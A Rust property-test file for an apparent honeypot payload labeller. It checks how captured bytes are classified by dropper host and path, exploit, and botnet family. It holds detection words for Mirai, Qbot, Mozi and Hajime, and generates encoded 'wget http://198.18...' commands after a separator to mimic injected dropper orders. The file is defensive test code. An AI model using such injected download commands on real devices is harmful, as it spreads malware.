//! What has to be true of the label of any bytes.

use std::sync::LazyLock;

use honeyxdp_labels::{LONGEST, Region, Rules};
use proptest::prelude::*;

use crate::mutated::WORDS;

/// Compiled once for all cases.
static OWN: LazyLock<Rules> = LazyLock::new(|| Rules::own().unwrap());

/// Words of which one stands in every payload of a family, or in the name of its file.
const TELLING: &[(&str, &[&str])] = &[
    ("mozi", &["mozi."]),
    ("qbot", &["gayfgt", "\\147", "\\0147", "\\x67", "corona", "cayosin", "demon", "love"]),
    ("mirai", &["mirai", "ecchi", "hello", "hakai", "apep", "osiris", "katana"]),
    ("hajime", &[".i.", "atk."]),
];

/// Says what is wrong with the label of a payload.
pub(crate) fn judge(rules: &Rules, payload: &[u8]) -> Result<(), String> {
    let label = rules.label(payload);
    let wrong = |what: &str| Err(format!("{what}: {label:?}"));
    let dropper = label.dropper.as_ref();
    if let Some(dropper) = dropper {
        let is_plain = |c: char| c.is_ascii_alphanumeric() || ".-_:".contains(c);
        if dropper.host.is_empty() || !dropper.host.chars().all(is_plain) {
            return wrong("the host is none");
        }
        if [&dropper.host, &dropper.path, &dropper.file].iter().any(|text| text.len() > LONGEST) {
            return wrong("a text is too long");
        }
        if dropper.file.contains('/') || (dropper.path.len() < LONGEST - 3 && !dropper.path.contains(&dropper.file)) {
            return wrong("the file is not that of the path");
        }
    }
    if dropper.is_some() && label.exploit.is_none() {
        return wrong("an order to fetch something is no exploit");
    }
    let is_http = payload.iter().find(|byte| !b"\r\n".contains(byte)).is_some_and(u8::is_ascii_uppercase);
    for found in label.exploit.iter().chain(&label.family) {
        let mut regions = found.regions.iter();
        let whole = |region: Region| matches!(region, Region::Any | Region::Start | Region::File);
        if found.regions.iter().next().is_none() || !regions.all(|region| is_http || whole(region)) {
            return wrong("a region is not there");
        }
    }
    if let Some(found) = label.family {
        let words = TELLING.iter().find(|(name, _)| *name == found.rule.name).map_or(&[][..], |(_, words)| words);
        let file = dropper.map_or("", |dropper| &dropper.file);
        let text = [&payload.to_ascii_lowercase()[..], b"\n", &file.to_ascii_lowercase().into_bytes()].concat();
        let text = String::from_utf8_lossy(&text);
        if !words.iter().any(|word| text.contains(word)) {
            return wrong("nothing tells the family");
        }
    }
    Ok(())
}

/// A character as a form, XML or nobody encodes it.
fn encoded(byte: u8, how: u8) -> Vec<u8> {
    match how % 4 {
        0 => format!("%{byte:02X}").into_bytes(),
        1 => format!("&#{byte};").into_bytes(),
        2 => format!("&#x{byte:x};").into_bytes(),
        _ => vec![byte],
    }
}

proptest! {
    #[test]
    fn any_bytes_have_a_label(payload in prop::collection::vec(any::<u8>(), 0..2048)) {
        judge(&OWN, &payload).unwrap();
    }

    #[test]
    fn any_words_have_a_label(words in prop::collection::vec(prop::sample::select(WORDS), 0..80)) {
        judge(&OWN, words.concat().as_bytes()).unwrap();
    }

    #[test]
    fn an_order_is_read_however_it_is_encoded(
        path in "(/[a-z0-9._-]{1,12}){1,5}",
        host in prop::array::uniform2(any::<u8>()),
        port in 1_u16..,
        how in prop::collection::vec(any::<u8>(), 1..40),
        before in "[a-z;=/ ]{0,20}[;=/ ]",
    ) {
        let host = format!("198.18.{}.{}", host[0], host[1]);
        let command = format!("wget http://{host}:{port}{path};");
        let bytes = command.bytes().zip(how.iter().cycle()).flat_map(|(byte, how)| encoded(byte, *how));
        let payload: Vec<u8> = before.bytes().chain(bytes).collect();
        let dropper = OWN.label(&payload).dropper.unwrap();
        let file = path.rsplit('/').next().unwrap_or_default().to_owned();
        prop_assert_eq!((dropper.host, dropper.port, dropper.path, dropper.file), (host, Some(port), path, file));
    }
}
